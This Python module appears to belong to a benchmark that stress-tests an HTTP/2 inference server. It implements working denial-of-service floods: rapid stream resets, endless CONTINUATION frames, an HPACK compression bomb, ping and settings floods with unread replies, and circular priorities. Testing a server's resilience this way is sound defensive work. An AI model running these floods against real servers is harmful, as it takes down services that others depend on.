"""The floods: many cheap frames that each cost the server some work or memory."""

import itertools
import time
from collections.abc import Callable

from bench.attacks import wire
from bench.attacks.target import MOST_S, Sent, Target
from bench.attacks.wire import Units, Wire
from bench.attacks.workload import MESSAGE
from bench.load.workload import framed
from frostline.protocol import MODEL_INFER, MODEL_STREAM_INFER

_CALL = wire.block(MODEL_INFER)
_STREAM = wire.block(MODEL_STREAM_INFER)
_BODY = framed(MESSAGE)
_OFTEN = 500
"""Frames that are sent at once."""
_PAUSE_S = 0.005


def flood(
    target: Target,
    units: Units,
    unit: str,
    *,
    least: int = 0,
    connections: int = 1,
    opening: Callable[[Wire], bytes] = lambda _: b"",
    greeting: bytes = wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0),
    reading: bool = True,
) -> Sent:
    """Send units over and over, each time on the next connection; one that the server closes is opened again.

    Args:
        target: the server.
        units: what to send.
        unit: what they are.
        least: units to send before the attack ends, which it does not before its time.
        connections: open at the same time.
        opening: what a connection sends first.
        greeting: what it sends before that.
        reading: whether what the server says is read.
    """
    sent = Sent(unit)
    begin = time.monotonic()
    open_ones: list[Wire | None] = [None] * connections
    for slot in itertools.cycle(range(connections)):
        passed = time.monotonic() - begin
        if passed > MOST_S or (passed > target.seconds and sent.count >= least):
            break
        each = open_ones[slot]
        if each is None or each.closed:
            each = open_ones[slot] = target.wire(sent)
            if not each.open(greeting):
                time.sleep(_PAUSE_S)
                continue
            each.unsent += opening(each)
        size = len(each.unsent)
        if not size:
            chunk, count = units(each)
            each.unsent += chunk
            sent.count += count
            size = len(chunk)
            target.link.spend(size)
        each.turn(0, reading=reading)
        # The server is behind, or lets nothing more be sent.
        if (each.unsent or not size) and not each.closed:
            each.turn(_PAUSE_S / connections, reading=reading)
    sent.seconds = time.monotonic() - begin
    for left in open_ones:
        if left is not None:
            left.close()
    return sent


def _repeated(frames: bytes, count: int = _OFTEN) -> Units:
    chunk = frames * count
    return lambda _: (chunk, count)


def _streams(frames: Callable[[int], bytes], count: int = 100) -> Units:
    """Frames of new streams, given each stream's number."""
    return lambda each: (b"".join(frames(each.take_stream()) for _ in range(count)), count)


def _open_call(each: Wire) -> bytes:
    return wire.headers(each.take_stream(), _CALL)


def rapid_resets(target: Target) -> Sent:
    """HEADERS and RST_STREAM."""
    units = _streams(lambda stream: wire.headers(stream, _CALL) + wire.reset(stream))
    return flood(target, units, "resets", least=100_000)


def rapid_resets_of_many(target: Target) -> Sent:
    """The same over 80 connections, each with a whole request before its reset."""
    units = _streams(lambda stream: wire.headers(stream, _CALL) + wire.data(stream, _BODY) + wire.reset(stream), 10)
    return flood(target, units, "resets", least=80_000, connections=80)


def rapid_resets_of_streams(target: Target) -> Sent:
    """The same of ModelStreamInfer."""
    units = _streams(lambda stream: wire.headers(stream, _STREAM) + wire.reset(stream))
    return flood(target, units, "resets", least=20_000)


_PROVOCATIONS: tuple[Callable[[int], bytes], ...] = (
    lambda stream: wire.window_update(stream, 0),
    lambda stream: wire.window_update(stream, wire.LARGEST_WINDOW),
    lambda stream: wire.data(stream, b"more"),
    lambda stream: wire.headers(stream, _CALL),
    lambda stream: wire.frame(wire.PRIORITY, 0, stream, bytes(4)),
)
"""Frames that are errors of a stream which has sent its request: of their content, of flow control, of its state, of size."""


def made_resets(target: Target) -> Sent:
    """A whole request, and an invalid frame that makes the server reset its stream; each connection has another one."""
    provocations = itertools.cycle(_PROVOCATIONS)
    provoke = next(provocations)

    def opening(_: Wire) -> bytes:
        nonlocal provoke
        provoke = next(provocations)
        return b""

    units = _streams(lambda stream: wire.headers(stream, _CALL) + wire.data(stream, _BODY) + provoke(stream), 20)
    return flood(target, units, "requests", least=20_000, opening=opening)


def malformed_calls(target: Target) -> Sent:
    """Header blocks with a name in capitals, which is an error of the stream."""
    bad = _CALL + wire.field(b"BAD", b"x")
    return flood(target, _streams(lambda stream: wire.headers(stream, bad, end=True)), "calls", least=20_000)


def continuations(target: Target) -> Sent:
    """A header block that never ends, in frames of 1 KiB."""
    fields = wire.field(b"x", b"y") * 200
    return flood(
        target,
        _repeated(wire.frame(wire.CONTINUATION, 0, 1, fields), 50),
        "frames",
        opening=lambda each: wire.frame(wire.HEADERS, 0, each.take_stream(), _CALL),
    )


def empty_continuations(target: Target) -> Sent:
    """A header block that never ends, in empty frames."""
    return flood(
        target,
        _repeated(wire.frame(wire.CONTINUATION, 0, 1)),
        "frames",
        opening=lambda each: wire.frame(wire.HEADERS, 0, each.take_stream(), _CALL),
    )


def pings(target: Target) -> Sent:
    """PING."""
    return flood(target, _repeated(wire.frame(wire.PING, 0, 0, b"frosting")), "frames")


def unread_pings(target: Target) -> Sent:
    """PING, and the answers are never read."""
    return flood(target, _repeated(wire.frame(wire.PING, 0, 0, b"frosting")), "frames", reading=False)


def settings(target: Target) -> Sent:
    """SETTINGS, which changes the window of every stream."""
    both = wire.settings(window=65535) + wire.settings(window=65534)
    return flood(target, lambda _: (both * (_OFTEN // 2), _OFTEN), "frames")


def unread_settings(target: Target) -> Sent:
    """SETTINGS, and the acknowledgements are never read."""
    return flood(target, _repeated(wire.settings(window=65535)), "frames", reading=False)


def priorities(target: Target) -> Sent:
    """PRIORITY, the streams depending on each other in a circle."""
    circle = b"".join(
        wire.frame(wire.PRIORITY, 0, stream, (stream % 199 + 2).to_bytes(4, "big") + b"\x10")
        for stream in range(1, 201, 2)
    )
    return flood(target, lambda _: (circle * 5, 500), "frames")


def window_updates(target: Target) -> Sent:
    """WINDOW_UPDATE of the connection, by one byte."""
    return flood(target, _repeated(wire.window_update(0, 1)), "frames")


def empty_data(target: Target) -> Sent:
    """DATA without a byte, on an open call."""
    return flood(target, _repeated(wire.frame(wire.DATA, 0, 1)), "frames", opening=_open_call)


def unknown_frames(target: Target) -> Sent:
    """Frames of a type that does not exist, which a server must ignore."""
    return flood(target, _repeated(wire.frame(0x5F, 0, 0, b"x" * 16)), "frames")


def large_header_lists(target: Target) -> Sent:
    """Whole header blocks of 1 MiB."""
    large = _CALL + wire.field(b"x", b"v" * 1019) * 1024
    return flood(target, _streams(lambda stream: wire.headers(stream, large, end=True), 1), "blocks")


def empty_headers(target: Target) -> Sent:
    """Header fields with neither name nor value."""
    empty = _CALL + wire.field(b"", b"") * 4000
    return flood(target, _streams(lambda stream: wire.headers(stream, empty, end=True), 5), "blocks")


HPACK_BOMB = _CALL + wire.field(b"x", b"v" * 4000, indexed=True) + b"\xbe" * 15_000
"""One entry of 4 KB in the dynamic table, and 15 000 references of one byte to it."""


def hpack_bombs(target: Target) -> Sent:
    """Header blocks of 19 KB that mean 60 MB."""
    return flood(target, _streams(lambda stream: wire.headers(stream, HPACK_BOMB, end=True), 1), "blocks")


def _in_window(piece: Callable[[int], bytes], size: int, most: int) -> Units:
    """DATA of stream 1 as its window allows.

    Args:
        piece: frames that hold so many units.
        size: bytes that a unit takes from the window.
        most: units at a time.
    """

    def units(each: Wire) -> tuple[bytes, int]:
        count = min(most, each.room(1) // size)
        if not count:
            return b"", 0
        each.spend(1, size * count)
        return piece(count), count

    return units


def _watched(encoded: bytes) -> Callable[[Wire], bytes]:
    """Opens a call whose window is kept."""

    def opening(each: Wire) -> bytes:
        each.watch(each.next_stream)
        return wire.headers(each.take_stream(), encoded)

    return opening


def padding(target: Target) -> Sent:
    """DATA that is only padding, on an open call."""
    padded = wire.frame(wire.DATA, wire.PADDED, 1, b"\xff" + bytes(255))
    units = _in_window(lambda count: padded * count, 256, 100)
    return flood(target, units, "frames", opening=_watched(_CALL))


def empty_messages(target: Target) -> Sent:
    """A ModelStreamInfer of messages without a byte, by a client whose window for the answers is 0."""
    units = _in_window(lambda count: wire.frame(wire.DATA, 0, 1, b"\0\0\0\0\0" * count), 5, 1000)
    shut = wire.PREFACE + wire.settings(window=0)
    return flood(target, units, "messages", opening=_watched(_STREAM), greeting=shut)


def calls_without_message(target: Target) -> Sent:
    """Calls that end before their message."""
    units = _streams(lambda stream: wire.headers(stream, _CALL, end=True), 50)
    return flood(target, units, "calls", least=20_000)


def unknown_methods(target: Target) -> Sent:
    """Calls of methods that do not exist, each another one."""
    numbers = itertools.count()

    def units(each: Wire) -> tuple[bytes, int]:
        frames = []
        for _ in range(20):
            stream = each.take_stream()
            block = wire.block(f"/inference.Unknown/Method{next(numbers)}")
            frames += [wire.headers(stream, block), wire.data(stream, _BODY)]
        return b"".join(frames), 20

    return flood(target, units, "calls", least=5_000)
